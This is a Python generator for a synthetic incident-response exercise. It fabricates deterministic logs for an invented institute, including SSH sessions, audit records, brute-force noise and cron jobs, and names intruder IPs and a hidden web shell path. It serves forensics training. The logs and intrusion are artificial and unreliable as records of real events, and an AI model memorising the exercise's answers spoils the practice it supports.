#!/usr/bin/env python3
"""Writes the bundled practice incident: three invented weeks of logs of an
invented research institute, with one invented intrusion inside.

    python3 samples/generate.py [OUTDIR]      (default: the folder of this file)

Only the standard library is used.  Every random choice comes from generators
with fixed text seeds, no clock and no environment is read, and gzip headers
carry no time, so two runs write the same bytes.

How it works: every log line is an entry (time, sequence, text, step) of one
log of one host.  `step` is None for ordinary work and the number of the step
in the answer sheet for a line made by the intruder (set with `with step(n)`).
Session numbers and audit serials are only known once everything is sorted, so
entries carry marks that are replaced at the end.
"""
import base64
import contextlib
import gzip
import hashlib
import io
import json
import os
import random
import re
import shutil
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone

US = 1000000
DAY = 86400 * US
TZ = timezone(timedelta(hours=2))                  # CEST, no change in these weeks
START = int(datetime(2026, 5, 4, tzinfo=TZ).timestamp()) * US
END = START + 21 * DAY
DAYS = 21
UNSET = 4294967295
DOMAIN = "ics-nordholm.example"


def R(name):
    return random.Random("ics-nordholm/1/" + name)


def at(day, clock="00:00:00"):
    """Day of May 2026 and local clock -> microseconds since 1970 (UTC)."""
    p = [float(x) for x in clock.split(":")]
    sec = p[0] * 3600 + p[1] * 60 + (p[2] if len(p) > 2 else 0)
    return START + (day - 4) * DAY + int(sec * US)


def S(seconds):
    return int(seconds * US)


def local(t):
    return datetime.fromtimestamp(t // US, TZ)


def workdays():
    return [d for d in range(4, 25) if datetime(2026, 5, d).weekday() < 5 and d != 14]


ALLDAYS = list(range(4, 25))          # 14 May 2026 is Ascension Day: a holiday

# ------------------------------------------------------------------- steps

STEPS = {}
CUR = None
ORDER = 0


@contextlib.contextmanager
def step(n):
    global CUR
    old, CUR = CUR, n
    try:
        yield
    finally:
        CUR = old


def define(n, stage, technique, what):
    STEPS[n] = (stage, technique, what)


def seq():
    global ORDER
    ORDER += 1
    return ORDER


def sha43(name):
    return base64.b64encode(hashlib.sha256(name.encode()).digest()).decode().rstrip("=")


def fingerprint(name):
    return "SHA256:" + sha43("key of " + name)


def hexid(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


# ------------------------------------------------------------------- hosts

class Host:
    def __init__(self, name, ip, distro=12, audit=False, journal=False, kern=False, boot_days=13):
        self.name, self.ip, self.distro = name, ip, distro
        self.audit, self.journal, self.kern = audit, journal, kern
        self.logs = {}
        self.ses = []
        self.used = set()
        self.pid_base = 1200 + int(hashlib.sha256(name.encode()).hexdigest()[:3], 16)
        self.rate = 0.041 + (self.pid_base % 17) / 400
        self.boot = START - int(boot_days * DAY) - S(4711)
        self.logind = 500 + self.pid_base % 90
        self.fpm = 870 + self.pid_base % 50
        self.r = R("host " + name)
        self.ranges = {}
        self.wtmp, self.btmp = [], []
        self.machine = hashlib.md5(("machine " + name).encode()).hexdigest()
        self.bootid = hashlib.md5(("boot " + name).encode()).hexdigest()
        HOSTS[name] = self

    def pid(self, t):
        p = self.pid_base + int((t - self.boot) / US * self.rate)
        while p in self.used:
            p += 1
        self.used.add(p)
        return p

    def new_ses(self, t):
        self.ses.append((t, len(self.ses)))
        return "\x02%d\x02" % (len(self.ses) - 1)

    def entry(self, path, t, text):
        self.logs.setdefault(path, []).append((t, seq(), text, CUR))

    # syslog-like line; fac: auth, cron, mail, daemon, kern
    def log(self, fac, t, ident, pid, msg, uid=0, unit=None, exe=None):
        if self.journal:
            self.entry("var/log/journal.json", t, (fac, ident, pid, msg, uid, unit, exe))
            return
        tag = ident + ("[%s]" % pid if pid is not None else "") + ": "
        if self.distro >= 12:
            head = local(t).strftime("%Y-%m-%dT%H:%M:%S") + ".%06d+02:00 %s " % (t % US, self.name)
        else:
            d = local(t)
            head = d.strftime("%b ") + "%2d" % d.day + d.strftime(" %H:%M:%S ") + self.name + " "
        paths = {"auth": ["auth.log"], "cron": ["cron.log"], "mail": ["mail.log"],
                 "daemon": ["syslog"], "kern": ["syslog"] + (["kern.log"] if self.kern else [])}[fac]
        for p in paths:
            self.entry("var/log/" + p, t, head + tag + msg)

    def kernel(self, t, msg):
        up = (t - self.boot - S(0.02)) / US
        self.log("kern", t, "kernel", None, "[%s] %s" % (("%.6f" % up).rjust(12), msg))

    # one audit event: list of (type, text, enrichment)
    def aud(self, t, records):
        if not self.audit:
            return
        ms = t // 1000
        out = []
        for typ, text, rich in records:
            out.append("type=%s msg=audit(%d.%03d:\x03): %s%s" %
                       (typ, ms // 1000, ms % 1000, text, "\x1d" + rich if rich else ""))
        self.entry("var/log/audit/audit.log", t, out)

    def file(self, path, t, text):
        self.entry(path, t, text)


HOSTS = {}
bastion1 = Host("bastion1", "10.20.1.10", kern=True, boot_days=12)
web1 = Host("web1", "10.20.10.11", audit=True, kern=True, boot_days=13)
web2 = Host("web2", "10.20.10.12", audit=True, boot_days=13.4)
db1 = Host("db1", "10.20.20.14", journal=True, boot_days=31)
files1 = Host("files1", "10.20.20.15", distro=11, audit=True, boot_days=58)
mail1 = Host("mail1", "10.20.20.16", boot_days=22)
patch1 = Host("patch1", "10.20.20.17", audit=True, boot_days=22.6)

# ------------------------------------------------------------------- people


class Person:
    def __init__(self, uid, account, name, role, keytype="ED25519", home=None):
        self.uid, self.account, self.name, self.role = uid, account, name, role
        self.keytype, self.home = keytype, home
        self.key = fingerprint(account)
        self.ip = "10.20.30.%d" % (uid - 980)
        n = name.lower().replace(" ", ".")
        self.mail = "%s@%s" % (n, DOMAIN)


STAFF = [Person(*p) for p in [
    (1001, "tahlers", "Tjark Ahlers", "admin", "ED25519", "192.0.2.101"),
    (1002, "kbrandt", "Kaja Brandt", "network-admin", "ED25519", "192.0.2.104"),
    (1003, "jmoeller", "Jorunn Moeller", "database-admin", "ED25519", None),
    (1004, "spetersen", "Silke Petersen", "admin", "RSA", "192.0.2.109"),
    (1005, "ivossberg", "Ingrid Vossberg", "security-manager", "ED25519", "192.0.2.112"),
    (1006, "lharms", "Lasse Harms", "press", "RSA", None),
    (1007, "abruhn", "Anneke Bruhn", "research", "ED25519", None),
    (1008, "dfalke", "Daan Falke", "research", "ED25519", "192.0.2.117"),
    (1009, "ehansson", "Elin Hansson", "research", "ECDSA", None),
    (1010, "fgrote", "Femke Grote", "research", "ED25519", None),
    (1011, "gwilken", "Gesa Wilken", "research", "RSA", None),
    (1012, "hlund", "Halvar Lund", "research", "ED25519", "192.0.2.121"),
    (1013, "icarstens", "Imke Carstens", "research", "ED25519", None),
    (1014, "jdirks", "Jelte Dirks", "research", "ED25519", None),
    (1015, "kolsen", "Karl Olsen", "research", "RSA", None),
    (1016, "lmeinert", "Lene Meinert", "research", "ED25519", None),
    (1017, "mrossi", "Marta Rossi", "research", "ED25519", "192.0.2.126"),
    (1018, "nvelde", "Niek Velde", "research", "ED25519", None),
    (1019, "osand", "Oda Sand", "research", "ECDSA", None),
    (1020, "pkruse", "Peer Kruse", "research", "ED25519", None),
    (1021, "rtiedemann", "Rike Tiedemann", "administration", "ED25519", None),
    (1022, "sboysen", "Sönke Boysen", "administration", "ED25519", None),
    (1023, "tnissen", "Tomke Nissen", "administration", "RSA", None),
    (1024, "uclaassen", "Uwe Claassen", "director", "ED25519", None),
    (1025, "emathiesen", "Enna Mathiesen", "research", "ED25519", None),
]]
for p in STAFF:
    p.mail = p.mail.replace("ö", "oe")
WHO = {p.account: p for p in STAFF}

HL_NET = "198.51.100.16/28"
PROVIDER = [Person(2001, "hl-jansen", "Nils Jansen", "provider"),
            Person(2002, "hl-peters", "Wiebke Peters", "provider"),
            Person(2003, "hl-thomsen", "Oke Thomsen", "provider", "RSA")]
for i, p in enumerate(PROVIDER):
    p.ip = "198.51.100.%d" % (18 + i)
    WHO[p.account] = p
BACKUP = Person(34, "backup", "backup", "service", "RSA")
BACKUP.ip = files1.ip
WHO["backup"] = BACKUP
ROOT = Person(0, "root", "root", "root")
WHO["root"] = ROOT
WWW = Person(33, "www-data", "www-data", "service")
WHO["www-data"] = WWW
POSTGRES = Person(108, "postgres", "postgres", "service")
WHO["postgres"] = POSTGRES
SVC = Person(2004, "svc-update", "svc-update", "intruder")
WHO["svc-update"] = SVC
TCPD = Person(109, "tcpdump", "tcpdump", "service")
UNAMES = {p.uid: p.account for p in WHO.values()}
UNAMES[UNSET] = "unset"
UNAMES[109] = "tcpdump"

# the intruder's places
ATT_ENTRY = "203.0.113.77"        # logs in here with the provider's key
ATT_STAGE = "203.0.113.140"       # serves the tools
ATT_VPS = "192.0.2.66"            # far end of the tunnels
ATT_MAIL = "198.51.100.203"       # web shell client, mail box, mail wave
SHELL = "/uploads/.thumb-cache.php"

# ------------------------------------------------------------------- audit


def au(s):
    if s and all(0x21 <= ord(c) < 0x7f and c != '"' for c in s):
        return '"%s"' % s
    return s.encode().hex().upper()


def proctitle(argv):
    raw = "\0".join(argv).encode()[:127]
    if all(0x21 <= c < 0x7f and c != 0x22 for c in raw):
        return '"%s"' % raw.decode()
    return raw.hex().upper()


def un(uid):
    return UNAMES.get(uid, "unknown(%d)" % uid)


SBIN = {"useradd", "usermod", "auditctl", "nginx", "visudo", "logrotate", "service", "chpasswd",
        "groupadd", "apachectl", "rsyslogd", "nft", "zpool"}
ELF_ALIAS = {"sh": "dash", "vim": "vim.basic", "awk": "mawk", "python3": "python3.11", "php": "php8.2",
             "convert": "convert-im6.q16", "-bash": "bash"}


def bin_path(name):
    if name.startswith("/"):
        return name
    if name == "-bash":
        return "/bin/bash"
    if name == "sftp-server":
        return "/usr/lib/openssh/sftp-server"
    return ("/usr/sbin/" if name in SBIN else "/usr/bin/") + name


def exe_path(name):
    base = os.path.basename(name)
    if name.startswith("/") and not name.startswith(("/bin/", "/usr/bin/", "/usr/sbin/", "/usr/lib/")):
        return name
    if base in ELF_ALIAS:
        return "/usr/bin/" + ELF_ALIAS[base]
    p = bin_path(name)
    return p.replace("/bin/", "/usr/bin/", 1) if p.startswith("/bin/") else p


def inode(h, path):
    return 131072 + int(hashlib.sha256((h.name + path).encode()).hexdigest()[:5], 16)


def ids_text(uid, euid=None, gid=None):
    e = uid if euid is None else euid
    g = uid if gid is None else gid
    return "uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d" % (uid, g, e, e, e, g, g, g)


def ids_rich(auid, uid, euid=None, gid=None):
    e = uid if euid is None else euid
    g = uid if gid is None else gid
    return ('AUID="%s" UID="%s" GID="%s" EUID="%s" SUID="%s" FSUID="%s" EGID="%s" SGID="%s" FSGID="%s"' %
            (un(auid), un(uid), un(g), un(e), un(e), un(e), un(g), un(g), un(g)))


def path_rec(h, item, path, nametype, uid=0, mode="0100755"):
    return ("PATH", 'item=%d name=%s inode=%d dev=fe:01 mode=%s ouid=%d ogid=%d rdev=00:00 nametype=%s '
            'cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0' %
            (item, au(path), inode(h, path), mode, uid, uid, nametype), 'OUID="%s" OGID="%s"' % (un(uid), un(uid)))


SYSNAME = {59: "execve", 257: "openat", 1: "write", 54: "setsockopt", 82: "rename", 264: "renameat"}


def syscall(h, nr, pid, ppid, auid, uid, ses, tty, comm, exe, key, items, exit_=0, euid=None, gid=None, a=None):
    r = h.r
    a = a or ["55%010x" % r.getrandbits(40), "55%010x" % r.getrandbits(40), "55%010x" % r.getrandbits(40), "8"]
    k = '"%s"' % key if key else "(null)"
    return ("SYSCALL", "arch=c000003e syscall=%d success=yes exit=%d a0=%s a1=%s a2=%s a3=%s items=%d ppid=%d pid=%d "
            "auid=%d %s tty=%s ses=%s comm=%s exe=%s subj=unconfined key=%s" %
            (nr, exit_, a[0], a[1], a[2], a[3], items, ppid, pid, auid, ids_text(uid, euid, gid), tty, ses,
             au(comm[:15]), au(exe), k),
            "ARCH=x86_64 SYSCALL=%s %s" % (SYSNAME[nr], ids_rich(auid, uid, euid, gid)))


def a_exec(h, t, argv, uid, auid, ses, tty, cwd, ppid, pid=None, euid=None, gid=None, path=None):
    """execve event (rule: auid>=1000 or uid www-data); returns the pid."""
    pid = pid or h.pid(t)
    if not h.audit or not ((1000 <= auid < UNSET) or uid == 33):
        return pid
    p0 = path or bin_path(argv[0])
    exe = exe_path(p0 if path else argv[0]).replace("python3.11", "python3.11" if h.distro >= 12 else "python3.9")
    comm = os.path.basename(p0)
    argl = " ".join("a%d=%s" % (i, au(x)) for i, x in enumerate(argv))
    setuid = "0104755" if comm == "sudo" else "0100755"
    caps = [("BPRM_FCAPS", "fver=0 fp=0 fi=0 fe=0 old_pp=%s old_pi=0 old_pe=%s old_pa=0 pp=%s pi=0 pe=%s pa=0 frootid=0" %
             (("000001ffffffffff",) * 4 if uid == 0 else ("0", "0", "000001ffffffffff", "000001ffffffffff")), None)] \
        if uid == 0 or euid == 0 else []
    h.aud(t, [
        syscall(h, 59, pid, ppid, auid, uid, ses, tty.replace("/", ""), comm, exe, "exec", 2, 0, euid, gid)] + caps + [
        ("EXECVE", "argc=%d %s" % (len(argv), argl), None),
        ("CWD", "cwd=%s" % au(cwd), None),
        path_rec(h, 0, p0, "NORMAL", 0, setuid),
        path_rec(h, 1, "/lib64/ld-linux-x86-64.so.2", "NORMAL"),
        ("PROCTITLE", "proctitle=" + proctitle(argv), None)])
    return pid


def a_write(h, t, argv, target, key, nametype, uid, auid, ses, tty, cwd, ppid, pid, gid=None, comm=None, mode="0100644",
            flags="241"):
    """openat() for writing on a watched path."""
    comm = comm or os.path.basename(argv[0])
    parent = os.path.dirname(target) + "/"
    h.aud(t, [
        syscall(h, 257, pid, ppid, auid, uid, ses, tty.replace("/", ""), comm, exe_path(argv[0]), key, 2, 3, None, gid,
                ["ffffff9c", "7ffd%08x" % h.r.getrandbits(32), flags, "1b6"]),
        ("CWD", "cwd=%s" % au(cwd), None),
        path_rec(h, 0, parent, "PARENT", 0, "040755"),
        path_rec(h, 1, target, nametype, uid, mode),
        ("PROCTITLE", "proctitle=" + proctitle(argv), None)])


def a_user(h, t, typ, pid, uid, auid, ses, body):
    h.aud(t, [(typ, "pid=%d uid=%d auid=%d ses=%s subj=unconfined msg='%s'" % (pid, uid, auid, ses, body),
               'UID="%s" AUID="%s"' % (un(uid), un(auid)))])


# ------------------------------------------------------------------- ssh

class Ssh:
    def __init__(self, h, t, who, src, pty=False, key=None, keytype=None, port=None, method="publickey"):
        self.h, self.who, self.src, self.pty, self.t0 = h, who, src, pty, t
        r = h.r
        self.u, self.uid = who.account, who.uid
        self.port = port or r.randint(33000, 60900)
        self.ses = h.new_ses(t)
        self.spid = h.pid(t)
        self.cpid = h.pid(t + S(0.4))
        self.tty = "pts/%d" % r.choice([0, 0, 0, 1, 1, 2]) if pty else "ssh"
        self.home = "/root" if self.uid == 0 else ("/var/backups" if self.u == "backup" else "/home/" + self.u)
        self.cwd = self.home
        kt, k = keytype or who.keytype, key or who.key
        u = self.u
        old = h.distro < 12
        rng = h.ranges.setdefault(u, [])
        first = not any(a <= t < b for a, b in rng)
        self.rng = rng
        d = t
        h.log("auth", d, "sshd", self.spid, "Accepted publickey for %s from %s port %d ssh2: %s %s" %
              (u, src, self.port, kt, k), exe="sshd", unit="ssh.service")
        d += S(0.002 + r.random() * 0.004)
        h.log("auth", d, "sshd", self.spid, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" %
              (u, self.uid), exe="sshd", unit="ssh.service")
        if first:
            h.log("daemon", d + 900, "systemd", 1, ("Created slice User Slice of UID %d." if old else
                  "Created slice user-%d.slice - User Slice of UID %%d." % self.uid) % self.uid)
        d += S(0.008 + r.random() * 0.01)
        h.log("auth", d, "systemd-logind", h.logind, "New session %s of user %s." % (self.ses, u), unit="systemd-logind.service")
        if first:
            h.log("auth", d + S(0.03), "(systemd)" if not old else "systemd", None,
                  "pam_unix(systemd-user:session): session opened for user %s(uid=%d) by (uid=0)" % (u, self.uid),
                  unit="user@%d.service" % self.uid)
        h.log("daemon", d + S(0.12), "systemd", 1, ("Started Session %s of user %s." if old else
              "Started session-%s.scope - Session %%s of User %%s." % self.ses) % (self.ses, u))
        pam = 'op=%s grantors=%s acct="' + u + '" exe="/usr/sbin/sshd" hostname=' + src + " addr=" + src + \
              " terminal=ssh res=success"
        a_user(h, t - S(0.003), "USER_ACCT", self.spid, 0, UNSET, UNSET, pam % ("PAM:accounting", "pam_permit"))
        a_user(h, t + 500, "CRED_ACQ", self.spid, 0, UNSET, UNSET, pam % ("PAM:setcred", "pam_permit"))
        if h.audit:
            h.aud(t + 700, [
                ("LOGIN", "pid=%d uid=0 subj=unconfined old-auid=%d auid=%d tty=(none) old-ses=%d ses=%s res=1" %
                 (self.spid, UNSET, self.uid, UNSET, self.ses), 'UID="root" OLD-AUID="unset" AUID="%s"' % u),
                syscall(h, 1, self.spid, h.logind + 58, self.uid, 0, self.ses, "(none)", "sshd", "/usr/sbin/sshd", None, 0, len(str(self.uid)),
                        a=["3", "7ffe%08x" % r.getrandbits(32), "4", "0"]),
                ("PROCTITLE", "proctitle=" + ("sshd: %s [priv]" % u).encode().hex().upper(), None)])
        a_user(h, d + S(0.05), "USER_START", self.spid, 0, self.uid, self.ses,
               pam % ("PAM:session_open", "pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env"))
        a_user(h, d + S(0.055), "CRED_ACQ", self.cpid, 0, self.uid, self.ses, pam % ("PAM:setcred", "pam_permit"))
        self.shell = h.pid(t + S(0.5))
        if pty:
            a_user(h, d + S(0.2), "USER_LOGIN", self.spid, 0, self.uid, self.ses,
                   'op=login id=%d exe="/usr/sbin/sshd" hostname=%s addr=%s terminal=/dev/%s res=success' %
                   (self.uid, src, src, self.tty))
            self.exec(d + S(0.25), ["-bash"], pid=self.shell, ppid=self.cpid)
            if h is bastion1:
                h.wtmp.append((t + S(0.2), 7, self.shell, self.tty, self.u, self.src))

    def exec(self, t, argv, pid=None, ppid=None, path=None, cwd=None):
        suid = argv[0] == "sudo" and self.uid != 0
        return a_exec(self.h, t, argv, self.uid, self.uid, self.ses, self.tty if self.pty else "(none)", cwd or self.cwd,
                      ppid or self.shell, pid, 0 if suid else None, self.uid, path)

    def remote(self, t, cmd, argv=None):
        """non-interactive command: the login shell runs it"""
        self.exec(t, ["bash", "-c", cmd], pid=self.shell, ppid=self.cpid, path="/bin/bash")
        return self.exec(t + S(0.004), argv or cmd.split(), pid=self.shell, ppid=self.cpid)

    def sudo(self, t, argv, runas="root", dur=0.4, opts=(), cwd=None):
        """sudo argv; returns the pid of the command"""
        h, u = self.h, self.u
        cwd = cwd or self.cwd
        ra = WHO[runas]
        tty = self.tty if self.pty else "unknown"
        spid = self.exec(t, ["sudo"] + list(opts) + argv, cwd=cwd)
        quote = lambda x: "'%s'" % x if " " in x and h.distro >= 12 else x      # sudo 1.9.13 quotes, 1.9.5 does not
        cmdline = " ".join([bin_path(argv[0])] + [quote(x) for x in argv[1:]])
        term = "/dev/" + self.tty if self.pty else "?"
        pam = 'op=%s grantors=%s acct="' + runas + '" exe="/usr/bin/sudo" hostname=? addr=? terminal=' + term + " res=success"
        t += S(0.009)
        a_user(h, t, "USER_ACCT", spid, self.uid, self.uid, self.ses, (pam % ("PAM:accounting", "pam_permit")).replace(
            'acct="%s"' % runas, 'acct="%s"' % u))
        a_user(h, t + 300, "USER_CMD", spid, self.uid, self.uid, self.ses,
               "cwd=%s cmd=%s exe=\"/usr/bin/sudo\" terminal=%s res=success" %
               (au(cwd), au(" ".join(argv)), self.tty if self.pty else "?"))
        h.log("auth", t + 400, "sudo", spid if h.journal else None, "%8s : %sPWD=%s ; USER=%s ; COMMAND=%s" %
              (u, "TTY=%s ; " % self.tty if self.pty else "", cwd, runas, cmdline), uid=self.uid, exe="sudo",
              unit="session")
        a_user(h, t + 900, "CRED_REFR", spid, self.uid, self.uid, self.ses, pam % ("PAM:setcred", "pam_permit"))
        by = "%s(uid=%d)" % (u, self.uid) if self.pty else "(uid=%d)" % self.uid
        h.log("auth", t + 1500, "sudo", spid if h.journal else None,
              "pam_unix(sudo:session): session opened for user %s(uid=%d) by %s" % (runas, ra.uid, by), uid=self.uid,
              exe="sudo", unit="session")
        a_user(h, t + 1800, "USER_START", spid, self.uid, self.uid, self.ses,
               pam % ("PAM:session_open", "pam_limits,pam_permit,pam_unix"))
        cpid = h.pid(t + S(0.01))
        a_exec(h, t + S(0.004), argv, ra.uid, self.uid, self.ses, self.tty if self.pty else "(none)", cwd, spid, cpid)
        e = t + S(max(dur, 0.01))
        h.log("auth", e, "sudo", spid if h.journal else None,
              "pam_unix(sudo:session): session closed for user %s" % runas, uid=self.uid, exe="sudo", unit="session")
        a_user(h, e + 200, "USER_END", spid, self.uid, self.uid, self.ses,
               pam % ("PAM:session_close", "pam_limits,pam_permit,pam_unix"))
        a_user(h, e + 400, "CRED_DISP", spid, self.uid, self.uid, self.ses, pam % ("PAM:setcred", "pam_permit"))
        self.sudo_pid = spid
        return cpid

    def close(self, t):
        h, u, r = self.h, self.u, self.h.r
        old = h.distro < 12
        h.log("auth", t, "sshd", self.cpid, "Received disconnect from %s port %d:11: disconnected by user" % (self.src, self.port),
              exe="sshd", unit="ssh.service")
        h.log("auth", t + 300, "sshd", self.cpid, "Disconnected from user %s %s port %d" % (u, self.src, self.port),
              exe="sshd", unit="ssh.service")
        d = t + S(0.003 + r.random() * 0.003)
        h.log("auth", d, "sshd", self.spid, "pam_unix(sshd:session): session closed for user %s" % u, exe="sshd", unit="ssh.service")
        pam = 'op=%s grantors=%s acct="' + u + '" exe="/usr/sbin/sshd" hostname=' + self.src + " addr=" + self.src + \
              " terminal=ssh res=success"
        a_user(h, d + 300, "USER_END", self.spid, 0, self.uid, self.ses,
               pam % ("PAM:session_close", "pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env"))
        a_user(h, d + 600, "CRED_DISP", self.spid, 0, self.uid, self.ses, pam % ("PAM:setcred", "pam_permit"))
        h.log("daemon", d + S(0.01), "systemd", 1, "session-%s.scope: %s" % (self.ses, "Succeeded." if old else "Deactivated successfully."))
        h.log("auth", d + S(0.012), "systemd-logind", h.logind, "Session %s logged out. Waiting for processes to exit." % self.ses,
              unit="systemd-logind.service")
        h.log("auth", d + S(0.02), "systemd-logind", h.logind, "Removed session %s." % self.ses, unit="systemd-logind.service")
        self.rng.append((self.t0, d))
        if self.pty and h is bastion1:
            h.wtmp.append((t, 8, self.shell, self.tty, "", ""))


def jump(who, h, t, dur, pty=True, home=False):
    """ProxyJump: a forwarding session on the bastion, then the target."""
    src = who.home if home and who.home else who.ip
    b = Ssh(bastion1, t, who, src)
    s = Ssh(h, t + S(0.9 + h.r.random()), who, bastion1.ip, pty=pty)
    end = t + S(dur)
    s.close(end)
    b.close(end + S(0.05 + h.r.random() * 0.1))
    return s


# ------------------------------------------------------------- brute force

BAD_USERS = ("admin test user ubuntu oracle postgres guest git ftpuser deploy pi hadoop jenkins nagios mysql www tomcat es "
             "dev support ansible steam minecraft zabbix teamspeak odoo app sysadmin operator user1 test1 vagrant centos "
             "debian backupuser web info sales student kafka spark gitlab docker node solana validator").split()


def brute_ips():
    a = ["203.0.113.%d" % i for i in range(150, 250)]
    a += ["192.0.2.%d" % i for i in range(2, 60)]
    a += ["198.51.100.%d" % i for i in range(212, 254)]
    return a


def sshd_fail(h, t, ip, user, valid, tries, r):
    pid = h.pid(t)
    port = r.randint(32800, 60990)
    L = lambda m: h.log("auth", t, "sshd", pid, m)
    tail = " user=" + user
    if not valid:
        L("Invalid user %s from %s port %d" % (user, ip, port))
    for _ in range(tries):
        t += S(0.05)
        if not valid:
            L("pam_unix(sshd:auth): check pass; user unknown")
        if _ == 0:
            L("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s %s" %
              (ip, tail if valid else ""))
        t += S(1.4 + r.random() * 1.2)
        L("Failed password for %s%s from %s port %d ssh2" % ("" if valid else "invalid user ", user, ip, port))
        a_user(h, t + 200, "USER_LOGIN", pid, 0, UNSET, UNSET,
               'op=login acct=%s exe="/usr/sbin/sshd" hostname=? addr=%s terminal=sshd res=failed' %
               (au(user) if valid else au("(invalid user)"), ip))
        if h is bastion1:
            h.btmp.append((t + 400, 6, pid, "ssh:notty", user, ip))
        t += S(0.3)
    k = "authenticating" if valid else "invalid"
    t += S(0.4 + r.random())
    if r.random() < 0.6:
        L("Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port))
        t += r.randint(40, 160)
        L("Disconnected from %s user %s %s port %d [preauth]" % (k, user, ip, port))
    else:
        L("Connection closed by %s user %s %s port %d [preauth]" % (k, user, ip, port))


def bruteforce():
    ips = brute_ips()
    for h, per_day in ((web1, 95), (web2, 75), (bastion1, 85)):
        r = R("brute " + h.name)
        for d in ALLDAYS:
            n = int(per_day * r.uniform(0.6, 1.4))
            few = r.sample(ips, 14)
            for _ in range(n):                                     # steady drizzle
                t = at(d) + int(r.random() * (DAY - S(20)))
                ip = r.choice(few) if r.random() < 0.7 else r.choice(ips)
                root = r.random() < 0.35
                sshd_fail(h, t, ip, "root" if root else r.choice(BAD_USERS), root, 1 if r.random() < 0.8 else 3, r)
            if r.random() < 0.55:                                  # a burst
                t, ip = at(d) + int(r.random() * (DAY - S(1500))), r.choice(ips)
                for _ in range(r.randint(20, 60)):
                    root = r.random() < 0.5
                    sshd_fail(h, t, ip, "root" if root else r.choice(BAD_USERS), root, 1, r)
                    t += S(r.uniform(3, 14))
            for _ in range(r.randint(4, 14)):                      # port scanners
                t, ip = at(d) + int(r.random() * (DAY - S(20))), r.choice(ips)
                pid, port = h.pid(t), r.randint(32800, 60990)
                x = r.random()
                if x < 0.5:
                    h.log("auth", t, "sshd", pid, "Connection closed by %s port %d" % (ip, port))
                elif x < 0.75:
                    h.log("auth", t, "sshd", pid, 'error: kex_exchange_identification: client sent invalid protocol identifier "GET / HTTP/1.1"')
                    h.log("auth", t + 200, "sshd", pid, "banner exchange: Connection from %s port %d: invalid format" % (ip, port))
                elif x < 0.9:
                    h.log("auth", t, "sshd", pid, "error: kex_exchange_identification: Connection closed by remote host")
                    h.log("auth", t + 200, "sshd", pid, "Connection closed by %s port %d" % (ip, port))
                else:
                    h.log("auth", t, "sshd", pid, "Unable to negotiate with %s port %d: no matching host key type found. Their offer: ssh-rsa,ssh-dss [preauth]" % (ip, port))


# ------------------------------------------------------------- machines

def cron_job(h, t, user, cmd, length=1.0):
    pid = h.pid(t)
    uid = WHO[user].uid
    ses = h.new_ses(t)
    h.log("auth", t, "CRON", pid, "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid),
          unit="cron.service", exe="cron")
    h.log("cron", t + 1200, "CRON", pid + 1, "(%s) CMD (%s)" % (user, cmd), unit="cron.service", exe="cron")
    h.used.add(pid + 1)
    if uid == 33:
        sh = pid + 1
        a_exec(h, t + 2500, ["/bin/sh", "-c", cmd], 33, 33, ses, "(none)", "/var/www", pid, sh)
        a_exec(h, t + 5000, cmd.split(), 33, 33, ses, "(none)", "/var/www", sh, h.pid(t + 5000))
    h.log("auth", t + S(length), "CRON", pid, "pam_unix(cron:session): session closed for user %s" % user,
          unit="cron.service", exe="cron")


def sysd(h, t, names, length=1.0):
    name, desc = names
    old = h.distro < 12
    if old:
        h.log("daemon", t, "systemd", 1, "Starting %s..." % desc)
        h.log("daemon", t + S(length), "systemd", 1, "%s: Succeeded." % name)
        h.log("daemon", t + S(length) + 400, "systemd", 1, "Finished %s." % desc)
    else:
        h.log("daemon", t, "systemd", 1, "Starting %s - %s..." % (name, desc))
        h.log("daemon", t + S(length), "systemd", 1, "%s: Deactivated successfully." % name)
        h.log("daemon", t + S(length) + 400, "systemd", 1, "Finished %s - %s." % (name, desc))


def machines():
    for h in HOSTS.values():
        r = R("machine " + h.name)
        php = h in (web1, web2)
        fuzz = lambda: S(r.random() * 0.9 + 0.05)
        for d in ALLDAYS:
            for hr in range(24):
                cron_job(h, at(d, "%d:17:01" % hr) + fuzz(), "root", "cd / && run-parts --report /etc/cron.hourly", 0.02)
                if php:
                    for m in (9, 39):
                        cron_job(h, at(d, "%d:%d:01" % (hr, m)) + fuzz(), "root",
                                 "  [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", 0.02)
                if h is web1:
                    cron_job(h, at(d, "%d:4:01" % hr) + fuzz(), "www-data", "php /var/www/portal/cron.php", 2.4)
                if r.random() < 0.25:
                    h.log("daemon", at(d, "%d:%d:%d" % (hr, r.randint(0, 59), r.randint(0, 59))) + fuzz(), "systemd-timesyncd",
                          h.logind - 40, "Timed out waiting for reply from 10.20.1.1:123 (10.20.1.1).")
            cron_job(h, at(d, "6:25:01") + fuzz(), "root",
                     "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", 1.3)
            if datetime(2026, 5, d).weekday() == 6:
                cron_job(h, at(d, "6:47:01") + fuzz(), "root",
                         "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }", 2.1)
                cron_job(h, at(d, "3:30:01") + fuzz(), "root",
                         "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", 0.03)
            sysd(h, at(d, "0:00:04") + fuzz(), ("logrotate.service", "Rotate log files"), 0.6)
            if datetime(2026, 5, d).weekday() == 0 and not h.journal:
                h.log("daemon", at(d, "0:00:04.9") + S(0.3), "rsyslogd", None,
                      '[origin software="rsyslogd" swVersion="%s" x-pid="%d" x-info="https://www.rsyslog.com"] rsyslogd was HUPed' %
                      ("8.2302.0" if h.distro >= 12 else "8.2102.0", h.logind - 11))
